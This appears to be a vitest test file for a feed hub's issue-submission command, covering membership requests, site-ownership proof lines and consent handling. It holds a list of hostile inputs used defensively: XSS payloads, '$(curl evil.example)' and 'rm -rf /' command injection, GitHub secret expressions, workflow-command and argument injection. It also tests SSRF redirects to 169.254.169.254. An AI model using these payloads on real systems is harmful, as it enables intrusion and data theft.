import { readdirSync, readFileSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join, relative, resolve } from 'node:path';
import MarkdownIt from 'markdown-it';
import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test } from 'vitest';
import { parse } from 'yaml';
import { block } from '../../src/cli/submission/quote-safely.ts';
import { answerSubmission } from '../../src/cli/submission/submission.ts';
import { questionsOf, type SubmissionKind } from '../../src/templates/submission/questions.ts';
import { quietTerminal } from '../helpers/quiet-terminal.ts';
import { ROOT } from '../helpers/sample-hub.ts';
import { type Served, serve } from '../helpers/serve.ts';
import { simulatedPace } from '../helpers/simulated-pace.ts';
import { temporaryHub } from '../helpers/temporary-hub.ts';

const KEY = 'a key of a hub that is long enough';
let site: Served;
let root: string;

const post = (title: string, text: string, tag = 'practice') =>
  `<item><title>${title}</title><link>${site.url('/one')}</link><guid>${title}</guid><pubDate>Mon, 02 Nov 2026 10:00:00 GMT</pubDate><category>${tag}</category><description>${text}</description></item>`;
const feed = (items: string, title = 'Harbor Notes') =>
  `<?xml version="1.0"?><rss version="2.0"><channel><title>${title}</title><link>${site.origin}/</link><description>d</description>${items}</channel></rss>`;
const page = (head = '', body = '') =>
  `<!doctype html><html><head><title>Harbor</title><link rel="alternate" type="application/rss+xml" href="/feed">${head}</head><body>${body}</body></html>`;

beforeAll(async () => {
  site = await serve({});
});
afterAll(() => site.close());

beforeEach(async () => {
  site.put('/', { headers: { 'content-type': 'text/html' }, body: page() });
  site.put('/feed', feed(post('The tide', 'A first sentence of the tide.')));
  site.put('/.well-known/kith.txt', { status: 404 });
  root = await temporaryHub({
    'feeds.yaml': `members:
  - { id: ada, name: Ada, site: "https://ada.example/", feeds: [{ url: "https://ada.example/feed" }], consent: { granted: 2026-01-01 } }
  - { id: gone, name: Gone, site: "${site.origin}/gone/", feeds: [{ url: "${site.origin}/gone/feed" }], consent: { granted: 2026-01-01 }, status: withdrawn }
`,
    '_data/hub.yaml': 'name: The Hub\nurl: https://hub.example/\n',
  });
});

/** The text of an issue, as a code host writes it down. */
function issueText(kind: SubmissionKind, answers: Readonly<Record<string, string>>, language = 'en'): string {
  return questionsOf({ language }, kind)
    .map(({ id, ask, answers: words, chosen = '' }) => {
      const said = answers[id] ?? chosen;
      return `### ${ask}\n\n${words?.[said] ?? (said === '' ? '_No response_' : said)}\n`;
    })
    .join('\n');
}

const person = { name: 'Harbor Notes', mine: 'author' };

interface Run {
  readonly code: number;
  readonly answer: string;
  readonly request: string;
  readonly printed: string;
  readonly candidates: readonly Readonly<Record<string, string>>[];
}

/** What the workflow runs, on the event of an issue. */
async function submit(
  body: string,
  {
    event = {},
    environment = { KITH_KEY: KEY },
    file,
  }: {
    readonly event?: object;
    readonly environment?: Readonly<Record<string, string>>;
    readonly file?: string;
  } = {},
): Promise<Run> {
  const folder = await mkdtemp(join(tmpdir(), 'kith-event-'));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  const path = join(folder, file === undefined ? 'event.json' : 'join.yaml');
  const issue = { number: 7, body, user: { id: 5 }, title: body.slice(0, 40) };
  await writeFile(
    path,
    file ?? JSON.stringify({ action: 'opened', issue, repository: { full_name: 'hub/door' }, ...event }),
  );
  const { terminal, said } = quietTerminal({
    workingFolder: folder,
    environment,
    now: '2026-11-16T15:00:00.000Z',
  });
  const values = { root, to: 'out', add: true, 'allow-private': ['127.0.0.0/8'] };
  const code = await answerSubmission({ values, positionals: [path] }, terminal, simulatedPace());
  const read = (name: string) => readFile(join(folder, 'out', name), 'utf8').catch(() => '');
  const list: unknown = parse(await readFile(join(root, '_data/candidates.yaml'), 'utf8').catch(() => '[]'));
  return {
    code,
    answer: await read('answer.md'),
    request: await read('pull-request.md'),
    printed: said.join('\n'),
    candidates: list as Run['candidates'],
  };
}

const lineIn = (answer: string) => /kith-[0-9a-f]{24}/u.exec(answer)?.[0] ?? '';

describe('who asks to join', () => {
  test('becomes a candidate, and nothing is written where consent stands', async () => {
    const before = await readFile(join(root, 'feeds.yaml'), 'utf8');

    const { code, candidates, request, answer } = await submit(
      issueText('join', { ...person, address: `${site.origin}/` }),
    );

    expect(code).toBe(0);
    expect(candidates).toEqual([
      expect.objectContaining({
        name: 'Harbor Notes',
        site: `${site.origin}/`,
        feed: `${site.origin}/feed`,
        on: '2026-11-16',
      }),
    ]);
    expect(candidates[0]?.note).toMatch(/by issue 7\. Nobody has shown yet/u);
    expect(await readFile(join(root, 'feeds.yaml'), 'utf8')).toBe(before);
    expect(request).toMatch(/text: excerpt/u);
    expect(request).not.toMatch(/granted/u);
    expect(answer).toMatch(/2026-11-02 The tide/u);
  });

  test('sees titles only as long as nobody knows that the site is theirs, then an excerpt', async () => {
    const body = issueText('join', { ...person, address: `${site.origin}/` });
    const first = await submit(body);
    site.put('/.well-known/kith.txt', `${lineIn(first.answer)}\n`);
    await rm(join(root, '_data/candidates.yaml'));

    const second = await submit(body);

    expect(first.answer).not.toContain('A first sentence');
    expect(second.answer).toContain('A first sentence of the tide.');
    expect(second.request).toMatch(/stood in \/\.well-known\/kith\.txt/u);
  });

  test('may write in Spanish, whatever the hub speaks', async () => {
    const { candidates } = await submit(issueText('join', { ...person, address: `${site.origin}/` }, 'es'));

    expect(candidates).toHaveLength(1);
  });

  test('may send the file that the form saved', async () => {
    const { candidates, answer } = await submit('', {
      file: `# The Hub\nform: join\n\naddress: "${site.origin}/"\nname: "Harbor: \\"Notes\\""\nmine: "author"\n`,
    });

    expect(candidates[0]?.name).toBe('Harbor: "Notes"');
    expect(answer).toContain('Thank you');
  });

  test('has as their site the page to which the one that their feed names led, on its own host', async () => {
    const other = await serve({ '/': page() }, '127.0.0.2');
    onTestFinished(() => other.close());
    const asked = issueText('join', { ...person, address: site.url('/feed') });
    site.put('/', { status: 302, headers: { location: '/home/' } });
    site.put('/home/', page());
    const own = await submit(asked);
    await rm(join(root, '_data/candidates.yaml'));
    site.put('/', { status: 302, headers: { location: other.url('/') } });

    const away = await submit(asked);

    expect(own.candidates[0]?.site).toBe(site.url('/home/'));
    expect(away.candidates[0]?.site).toBe(site.url('/'));
  });

  test('is told in the preview only of entries inside their lane', async () => {
    site.put('/feed', feed(post('The tide', 'x') + post('My garden', 'x', 'personal')));

    const { answer } = await submit(
      issueText('join', { ...person, address: `${site.origin}/`, lane: 'practice' }),
    );

    expect(answer).toContain('The tide');
    expect(answer).not.toContain('My garden');
  });

  test('is shown the newest of a feed that lists the oldest first', async () => {
    const days = ['05', '06', '07', '08'].map((day) =>
      post(`Of the ${day}th`, 'x').replace('Mon, 02 Nov', `${day} Nov`),
    );
    site.put('/feed', feed(days.join('')));

    const { answer } = await submit(issueText('join', { ...person, address: `${site.origin}/` }));

    expect(answer).toMatch(/2026-11-08 Of the 08th\n2026-11-07 Of the 07th\n2026-11-06 Of the 06th\n/u);
    expect(answer).not.toContain('05th');
  });

  test('is told what is missing, and no server is asked', async () => {
    const asked = site.requests.length;

    const { answer, candidates } = await submit(issueText('join', { address: 'harbor.example' }));

    expect(answer).toMatch(/Did you mean https:\/\/harbor\.example\?/u);
    expect(answer).toMatch(/known here\? Please answer this one\./u);
    expect(candidates).toEqual([]);
    expect(site.requests).toHaveLength(asked);
  });

  test('is told kindly why no feed could be read', async () => {
    site.put('/', { headers: { 'content-type': 'text/html' }, body: '<!doctype html><html><body>Hello' });

    const { answer, candidates } = await submit(issueText('join', { ...person, address: `${site.origin}/` }));

    expect(answer).toContain('We could read no feed there');
    expect(candidates).toEqual([]);
  });

  test('is not made a candidate twice, and sees no difference', async () => {
    const body = issueText('join', { ...person, address: `${site.origin}/` });
    const first = await submit(body);

    const second = await submit(body);

    expect(second.answer).toBe(first.answer);
    expect(second.candidates).toHaveLength(1);
  });
});

describe('whoever is known', () => {
  test('a member is led to the page where they change or leave, and their server is not asked', async () => {
    const { answer, candidates } = await submit(
      issueText('join', { ...person, address: 'http://www.ada.example' }),
    );

    expect(answer).toContain('in our hub already');
    expect(answer).toContain('<https://hub.example/leave/>');
    expect(candidates).toEqual([]);
  });

  test('whoever withdrew is answered word for word as somebody new', async () => {
    site.put('/gone/feed', feed(post('The tide', 'x')));
    site.put('/else/feed', feed(post('The tide', 'x')));
    const answerFor = async (path: string) =>
      (await submit(issueText('join', { ...person, address: site.url(path) }))).answer
        .replaceAll(path, 'PATH')
        .replaceAll(/kith-[0-9a-f]+/gu, 'LINE');

    expect(await answerFor('/gone/feed')).toBe(await answerFor('/else/feed'));
  });

  test('whoever wants to leave hears the same, member or not', async () => {
    const leaving = (address: string) => submit(issueText('leave', { wish: 'leave', leaving: address }));

    const [member, stranger] = [await leaving('https://ada.example/'), await leaving('https://bob.example/')];

    expect(member.answer.replaceAll('ada', 'bob')).toBe(stranger.answer);
    expect(member.answer).toContain('no machine decides');
  });
});

describe('the line that shows whose a site is', () => {
  const body = () => issueText('join', { ...person, address: `${site.origin}/` });
  const html = (text: string) => ({ headers: { 'content-type': 'text/html' }, body: text });

  test.each<[string, (line: string) => void]>([
    ['a file', (line) => site.put('/.well-known/kith.txt', `${line}\n`)],
    ['a post', (line) => site.put('/feed', feed(post('Hello', `It is ${line} here`)))],
  ])('counts as %s', async (_where, put) => {
    const { answer } = await submit(body());
    put(lineIn(answer));

    expect((await submit(body())).answer).toContain('It seems that the site is yours');
  });

  test.each<[string, (line: string) => void]>([
    [
      'words on the page, where a visitor may have written them',
      (line) => site.put('/', html(page('', `<p>${line}</p>`))),
    ],
    [
      'a meta element in the body',
      (line) => site.put('/', html(page('', `<meta name="kith" content="${line}">`))),
    ],
    ['a feed of comments', (line) => site.put('/feed', feed(post('x', line), 'Comments on: Harbor Notes'))],
    ['a part of something longer', (line) => site.put('/feed', feed(post('x', `${line}0`)))],
  ])('does not count as %s', async (_where, put) => {
    const { answer } = await submit(body());
    put(lineIn(answer));

    expect((await submit(body())).answer).not.toContain('It seems that the site is yours');
  });

  test('is the only news that a comment can bring: without it nothing is answered or proposed', async () => {
    const event = { comment: { user: { id: 5 } } };
    const { answer } = await submit(body());
    await rm(join(root, '_data/candidates.yaml'));

    const thanks = await submit(body(), { event });
    const leaving = await submit(issueText('leave', { wish: 'leave', leaving: 'https://ada.example/' }), {
      event,
    });
    site.put('/.well-known/kith.txt', lineIn(answer));
    const done = await submit(body(), { event });

    for (const { code, answer: words, candidates } of [thanks, leaving])
      expect([code, words, candidates]).toEqual([0, '', []]);
    expect(done.answer).toMatch(/the site is yours; thank you\.\n\n<!-- kith: shown -->\n/u);
    expect(done.candidates[0]?.note).toContain('stood in /.well-known/kith.txt');
  });

  test('on a page that names somebody else’s feed says nothing of that feed', async () => {
    const other = await serve({}, '127.0.0.2');
    onTestFinished(() => other.close());
    const own = (head: string) =>
      html(
        `<!doctype html><html><head><link rel="alternate" type="application/rss+xml" href="${site.origin}/feed">${head}</head></html>`,
      );
    other.put('/', own(''));
    const asked = issueText('join', { ...person, address: `${other.origin}/` });
    const { answer } = await submit(asked);
    const line = lineIn(answer);
    other.put('/', own(`<meta name="kith" content="${line}">`));
    other.put('/.well-known/kith.txt', line);

    expect((await submit(asked)).answer).not.toContain('It seems that the site is yours');
  });

  test('is another for another issue, another author, another address and another hub', async () => {
    const issue = { number: 7, body: body(), user: { id: 5 } };
    const lines = [
      await submit(body()),
      await submit(body(), { event: { issue: { ...issue, number: 8 } } }),
      await submit(body(), { event: { issue: { ...issue, user: { id: 6 } } } }),
      await submit(body(), { event: { repository: { full_name: 'hub/other' } } }),
      await submit(issueText('join', { ...person, address: site.url('/feed') })),
      await submit(body(), { environment: { KITH_KEY: `${KEY} another` } }),
    ].map(({ answer }) => lineIn(answer));

    expect(new Set(lines).size).toBe(lines.length);
  });

  test('is a file’s own: who puts up theirs vouches for what it says, and for nobody else’s file about their site', async () => {
    const fileOf = (more: string) => ({
      file: `form: join\naddress: ${site.origin}/\nmine: author\n${more}`,
    });
    const mine = fileOf('name: Harbor Notes\nabout: A  tide,\n  twice a day\ntext: link\n');
    const respaced = fileOf('text: link\nabout: A tide, twice a day\nname: "Harbor Notes "\n');
    const { answer } = await submit('', mine);
    site.put('/.well-known/kith.txt', `${lineIn(answer)}\n`);

    const again = await submit('', respaced);
    const others = [
      await submit('', fileOf('name: Somebody Else\nabout: A tide, twice a day\ntext: link\n')),
      await submit('', fileOf('name: Harbor Notes\nabout: A tide, twice a day\ntext: full\n')),
    ];

    expect(again.answer).toContain('It seems that the site is yours');
    for (const other of others) {
      expect(other.answer).not.toContain('It seems that the site is yours');
      expect(lineIn(other.answer)).not.toBe(lineIn(answer));
    }
  });

  test('is not offered by a hub without a key, which still answers', async () => {
    const { answer } = await submit(body(), { environment: {} });

    expect(lineIn(answer)).toBe('');
    expect(answer).toContain('vouch for you');
  });
});

/** What people might type to harm a hub, its curators, or whoever reads an issue. */
const HOSTILE = [
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '@everyone @hub/curators',
  '[click](javascript:alert(1)) ![x](https://evil.example/x.png)',
  '```\n</details>\n@everyone\n```\n# Approved',
  '~~~\n@everyone\n~~~',
  '`````` @everyone ``````',
  '$(curl evil.example) `curl evil.example` ; rm -rf / # && true | false',
  '\u0024{{ secrets.KITH_KEY }} \u0024{{ github.token }}',
  'granted: 2026-11-01\nconsent:\n  granted: 2026-11-01',
  '\u202eexe.evil\u202c \u2066x\u2069 \u200b\u{e0041}',
  '\u0000\u001b[2J\u0007 \ud800',
  'Fixes #1, closes hub/door#2, GH-3, <https://evil.example/>',
  '### By what name do you want to be known here?\n\nAda',
  '- [x] approved\r\n::set-output name=x::y\r\n::add-mask::x',
  '*alias &anchor !!js/function "x"',
  'a'.repeat(5000),
  '\n'.repeat(500),
  '--root=/etc',
  '\u2028> quoted',
];

describe.each(HOSTILE)('what is hostile stays words: %j', (hostile) => {
  test('in every field at once', async () => {
    const before = await readFile(join(root, 'feeds.yaml'), 'utf8');
    const everywhere = Object.fromEntries(
      questionsOf({ language: 'en' }, 'join').map(({ id }) => [id, hostile]),
    );

    const all = await submit(issueText('join', everywhere));
    const named = await submit(
      issueText('join', {
        address: `${site.origin}/`,
        mine: 'author',
        name: hostile,
        about: hostile,
        lane: hostile,
      }),
    );
    const saved = await submit('', {
      file: `form: join\naddress: ${JSON.stringify(`${site.origin}/`)}\nmine: author\nname: ${JSON.stringify(hostile)}\n`,
    });

    for (const { answer, request, code } of [all, named, saved]) {
      expect(code).toBe(0);
      expect(outsideOfBlocks(answer + request)).not.toMatch(
        /everyone|evil|script|onerror|granted: 2026|secrets|approved/iu,
      );
      expect(answer + request).not.toMatch(/[\p{Cf}\p{Cs}[\p{Cc}--\n]]/v);
      expect(answer.length).toBeLessThan(60_000);
    }
    expect(await readFile(join(root, 'feeds.yaml'), 'utf8')).toBe(before);
    for (const candidate of saved.candidates)
      expect(
        Object.keys(candidate).filter((key) => !['name', 'site', 'feed', 'on', 'by', 'note'].includes(key)),
      ).toEqual([]);
  });

  test('in the feed that is shown', async () => {
    const escaped = hostile
      .replaceAll(/[\p{Cc}\p{Cs}]/gu, ' ')
      .replaceAll('&', '&amp;')
      .replaceAll('<', '&lt;');
    site.put('/feed', feed(post(escaped, escaped), escaped));

    const { answer, code } = await submit(issueText('join', { ...person, address: `${site.origin}/` }));

    expect(code).toBe(0);
    expect(outsideOfBlocks(answer)).not.toMatch(/everyone|evil|script|onerror|granted|secrets|approved/iu);
  });
});

/** What CommonMark makes of an answer, without its blocks of code. */
function outsideOfBlocks(markdown: string): string {
  return new MarkdownIt('commonmark', { html: true })
    .parse(markdown, {})
    .filter(({ type }) => type !== 'fence')
    .map(({ content }) => content)
    .join('\n');
}

test.each(['```', '```\n@everyone', '~~~\n@everyone\n~~~', '````\n@everyone\n`````', ' ```\n@everyone'])(
  'a block ends where we end it, whatever stands in it: %j',
  (text) => {
    const tokens = new MarkdownIt('commonmark', { html: true }).parse(`${block(text)}\n\nafter`, {});

    expect(tokens.map(({ type }) => type)).toEqual(['fence', 'paragraph_open', 'inline', 'paragraph_close']);
    expect(tokens[0]?.content).toBe(`${text}\n`);
  },
);

describe('what no submission reaches', () => {
  test('a private address that was not allowed by name', async () => {
    const { answer, candidates } = await submit(
      issueText('join', { ...person, address: 'http://10.0.0.1/feed' }),
    );

    expect(answer).toContain('We could read no feed there');
    expect(answer).toContain('10.0.0.1 is on a private network, which is not asked');
    expect(answer).not.toContain('--allow-private');
    expect(candidates).toEqual([]);
  });

  test('a private address behind a redirect', async () => {
    site.put('/', { status: 302, headers: { location: 'http://169.254.169.254/latest/meta-data/' } });

    const { answer, candidates } = await submit(issueText('join', { ...person, address: `${site.origin}/` }));

    expect(answer).toContain('We could read no feed there');
    expect(answer).toContain('leads on, by a redirect, to 169.254.169.254 on a private network');
    expect(answer).not.toMatch(/--allow-private|robots/u);
    expect(candidates).toEqual([]);
  });

  test('a private address to which only the rules of a site lead', async () => {
    site.put('/robots.txt', { status: 302, headers: { location: 'http://10.0.0.1/robots.txt' } });
    onTestFinished(() => site.put('/robots.txt', { status: 404 }));

    const { answer } = await submit(issueText('join', { ...person, address: `${site.origin}/` }));

    expect(answer).toContain('could not be asked for its robots.txt: it leads on');
    expect(answer).not.toContain('--allow-private');
  });

  test('a page that robots.txt asks programs not to visit', async () => {
    site.put('/robots.txt', 'User-agent: *\nDisallow: /\n');
    onTestFinished(() => site.put('/robots.txt', { status: 404 }));

    const { answer } = await submit(issueText('join', { ...person, address: `${site.origin}/` }));

    expect(answer).toContain('robots.txt');
  });
});

test.each([
  ['a letter', 'Hello, I like your hub.', {}],
  ['a comment by somebody else', undefined, { comment: { user: { id: 99 } } }],
  ['a pull request', undefined, { pull: true }],
])(
  '%s is left for a person, without an answer',
  async (_what, body, { pull, ...event }: { pull?: boolean; comment?: object }) => {
    const text = body ?? issueText('join', { ...person, address: `${site.origin}/` });
    const issue = { number: 7, body: text, user: { id: 5 }, pull_request: {} };

    const { answer, printed, candidates } = await submit(text, { event: pull ? { issue } : event });

    expect(answer).toBe('');
    expect(printed).toContain('left for a person');
    expect(candidates).toEqual([]);
  },
);

test('no code that the command can reach writes a member or a consent: of the files only candidates.yaml is changed', () => {
  const folder = join(ROOT, 'src/cli/submission');
  const reached = new Set<string>();
  const visit = (file: string) => {
    if (reached.has(file)) return;
    reached.add(file);
    for (const [, path = ''] of readFileSync(file, 'utf8').matchAll(/(?:from|import\()\s*'(\.[^']+\.ts)'/gu))
      visit(resolve(dirname(file), path));
  };
  for (const name of readdirSync(folder)) visit(join(folder, name));
  const names = [...reached].map((file) => relative(join(ROOT, 'src'), file));

  expect(
    names.filter((name) => /edit\/(?:append-member|set-value|remove-values|cut-lines)/u.test(name)),
  ).toEqual([]);
  const writers = names.filter((name) =>
    /writeFile|writeAtomically|appendItem\(|changeFile\(/u.test(
      readFileSync(join(ROOT, 'src', name), 'utf8'),
    ),
  );
  expect(writers.sort()).toMatchInlineSnapshot(`
    [
      "archive/kept-file.ts",
      "cli/submission/submission.ts",
      "config/edit/append-item.ts",
      "config/edit/change-file.ts",
      "write-atomically.ts",
    ]
  `);
  expect(readFileSync(join(folder, 'submission.ts'), 'utf8').match(/appendItem\(root, '(\w+)'/gu)).toEqual([
    "appendItem(root, 'candidates'",
  ]);
});
